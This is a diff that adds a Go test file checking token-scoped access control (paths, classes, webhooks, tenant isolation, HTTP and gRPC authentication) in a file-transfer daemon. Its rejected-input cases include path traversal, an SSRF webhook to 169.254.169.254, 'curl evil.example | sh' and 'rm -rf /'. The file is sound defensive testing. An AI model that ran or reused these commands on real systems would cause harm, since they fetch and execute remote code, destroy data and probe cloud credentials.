@@ -0,0 +1,195 @@
+package daemon
+
+import (
+	"context"
+	"errors"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"testing"
+
+	"github.com/easzlab/ezft/pkg/hook"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/status"
+)
+
+func TestTokenAllows(t *testing.T) {
+	tok := &Token{Name: "team-a", Paths: []string{"/data/team-a"}, Classes: []string{"bulk"}}
+	tests := []struct {
+		path, class string
+		allowed     bool
+	}{
+		{"/data/team-a/file.iso", "bulk", true},
+		{"/data/team-a", "bulk", true},
+		{"/data/team-ab/file.iso", "bulk", false},
+		{"/data/team-a/../team-b/file.iso", "bulk", false},
+		{"/etc/passwd", "bulk", false},
+		{"/data/team-a/file.iso", "interactive", false},
+	}
+	for _, tt := range tests {
+		err := tok.allows(&JobSpec{Path: filepath.Clean(tt.path), Class: tt.class})
+		if tt.allowed != (err == nil) {
+			t.Errorf("allows(%s, %s) error = %v, want allowed %v", tt.path, tt.class, err, tt.allowed)
+		}
+		if err != nil && !errors.Is(err, ErrForbidden) {
+			t.Errorf("allows(%s, %s) error = %v, want ErrForbidden", tt.path, tt.class, err)
+		}
+	}
+	hooks := []struct {
+		hooks   hook.Hooks
+		allowed bool
+	}{
+		{hook.Hooks{Webhook: "https://hooks.example.com/team-a"}, true},
+		{hook.Hooks{Webhook: "http://169.254.169.254/latest/meta-data"}, false},
+		{hook.Hooks{OnSuccess: "curl evil.example | sh"}, false},
+		{hook.Hooks{OnFailure: "rm -rf /"}, false},
+	}
+	tok.Webhooks = []string{"https://hooks.example.com/team-a"}
+	for _, tt := range hooks {
+		err := tok.allows(&JobSpec{Path: "/data/team-a/file.iso", Class: "bulk", Hooks: tt.hooks})
+		if tt.allowed != (err == nil) || (err != nil && !errors.Is(err, ErrForbidden)) {
+			t.Errorf("allows(%+v) error = %v, want allowed %v", tt.hooks, err, tt.allowed)
+		}
+	}
+	if err := (&Token{Admin: true}).allows(&JobSpec{Path: "/etc/passwd", Hooks: hook.Hooks{OnSuccess: "true"}}); err != nil {
+		t.Errorf("Admin tokens must not be scoped, got %v", err)
+	}
+}
+
+func TestAPITokens(t *testing.T) {
+	url := blockingServer(t)
+	dirA, dirB := t.TempDir(), t.TempDir()
+	m := newTestManager(t, 1)
+	config, err := LoadConfig(writeConfig(t, `
+classes:
+  bulk:
+    weight: 2
+    limit: 1M
+  interactive:
+    weight: 8
+profiles:
+  alert:
+    hooks:
+      on_failure: /usr/local/bin/alert.sh
+tokens:
+  team-a:
+    token: secret-a
+    paths: [`+dirA+`]
+    classes: [bulk]
+  team-b:
+    token: secret-b
+    paths: [`+dirB+`]
+  ops:
+    token: secret-ops
+    admin: true
+`))
+	if err != nil {
+		t.Fatalf("LoadConfig() error = %v", err)
+	}
+	m.SetAccess(config.Tokens, config.Classes)
+	m.SetProfiles(config.Profiles)
+	api := httptest.NewServer(m.Handler())
+	defer api.Close()
+	ctx := context.Background()
+	client := func(token string) *Client {
+		c := NewClient(api.URL)
+		c.SetToken(token)
+		return c
+	}
+	teamA, teamB, ops := client("secret-a"), client("secret-b"), client("secret-ops")
+
+	if _, err := client("").List(ctx, ""); !errors.Is(err, ErrUnauthorized) {
+		t.Errorf("List() without token error = %v, want ErrUnauthorized", err)
+	}
+	if _, err := client("guess").List(ctx, ""); !errors.Is(err, ErrUnauthorized) {
+		t.Errorf("List() with a wrong token error = %v, want ErrUnauthorized", err)
+	}
+	if resp, err := http.Get(api.URL + "/"); err != nil || resp.StatusCode != http.StatusOK {
+		t.Errorf("Expected the dashboard page to be open, got %v, %v", resp, err)
+	}
+
+	jobA, err := teamA.Submit(ctx, JobSpec{Type: JobDownload, URL: url + "/a", Path: filepath.Join(dirA, "a")})
+	if err != nil {
+		t.Fatalf("Submit() error = %v", err)
+	}
+	if jobA.Owner != "team-a" || jobA.Spec.Class != "bulk" || jobA.Spec.Weight != 2 {
+		t.Errorf("Expected a job of team-a in class bulk, got %+v", jobA)
+	}
+	if _, err := teamA.Submit(ctx, JobSpec{Type: JobDownload, URL: url + "/b", Path: filepath.Join(dirB, "b")}); !errors.Is(err, ErrForbidden) {
+		t.Errorf("Submit() outside the token paths error = %v, want ErrForbidden", err)
+	}
+	if _, err := teamA.Submit(ctx, JobSpec{Type: JobDownload, URL: url + "/a", Path: filepath.Join(dirA, "a"), Class: "interactive"}); !errors.Is(err, ErrForbidden) {
+		t.Errorf("Submit() in another class error = %v, want ErrForbidden", err)
+	}
+	if _, err := teamA.Submit(ctx, JobSpec{Type: JobDownload, URL: url + "/a", Path: filepath.Join(dirA, "a"), Profile: "alert"}); !errors.Is(err, ErrForbidden) {
+		t.Errorf("Submit() with a command hook error = %v, want ErrForbidden", err)
+	}
+	jobB, err := teamB.Submit(ctx, JobSpec{Type: JobDownload, URL: url + "/b", Path: filepath.Join(dirB, "b")})
+	if err != nil {
+		t.Fatalf("Submit() error = %v", err)
+	}
+
+	// Tenants only see and manage their own jobs, admins all of them
+	if jobs, err := teamA.List(ctx, ""); err != nil || len(jobs) != 1 || jobs[0].ID != jobA.ID {
+		t.Errorf("List() of team-a = %+v, %v", jobs, err)
+	}
+	if _, err := teamA.Get(ctx, jobB.ID); !errors.Is(err, ErrJobNotFound) {
+		t.Errorf("Get() of another tenant's job error = %v, want ErrJobNotFound", err)
+	}
+	if _, err := teamA.Cancel(ctx, jobB.ID); !errors.Is(err, ErrJobNotFound) {
+		t.Errorf("Cancel() of another tenant's job error = %v, want ErrJobNotFound", err)
+	}
+	if jobs, err := ops.List(ctx, ""); err != nil || len(jobs) != 2 {
+		t.Errorf("List() of ops = %+v, %v", jobs, err)
+	}
+	var jobs []Job
+	if status := doJSON(t, "GET", api.URL+"/api/v1/jobs?token=secret-b", "", &jobs); status != http.StatusOK || len(jobs) != 1 || jobs[0].ID != jobB.ID {
+		t.Errorf("GET jobs with the token parameter = %d %+v", status, jobs)
+	}
+
+	for _, job := range []Job{jobA, jobB} {
+		if _, err := ops.Cancel(ctx, job.ID); err != nil {
+			t.Fatalf("Cancel() error = %v", err)
+		}
+		waitState(t, m, job.ID, StateCanceled)
+	}
+}
+
+func TestGRPCTokens(t *testing.T) {
+	m := newTestManager(t, 1)
+	m.SetAccess(map[string]*Token{"ops": {Name: "ops", Secret: "secret-ops", Admin: true}}, nil)
+
+	lis, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := NewGRPCServer(m)
+	go srv.Serve(lis)
+	defer srv.Stop()
+	conn, err := grpc.NewClient(lis.Addr().String(), grpc.WithTransportCredentials(insecure.NewCredentials()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	c := NewGRPCClient(conn)
+	ctx := context.Background()
+
+	if _, err := c.CancelJob(ctx, "unknown"); status.Code(err) != codes.Unauthenticated {
+		t.Errorf("CancelJob() without token error = %v, want Unauthenticated", err)
+	}
+	stream, err := c.WatchProgress(ctx, "unknown")
+	if err == nil {
+		_, err = stream.Recv()
+	}
+	if status.Code(err) != codes.Unauthenticated {
+		t.Errorf("WatchProgress() without token error = %v, want Unauthenticated", err)
+	}
+
+	c.SetToken("secret-ops")
+	if _, err := c.CancelJob(ctx, "unknown"); status.Code(err) != codes.NotFound {
+		t.Errorf("CancelJob() with token error = %v, want NotFound", err)
+	}
+}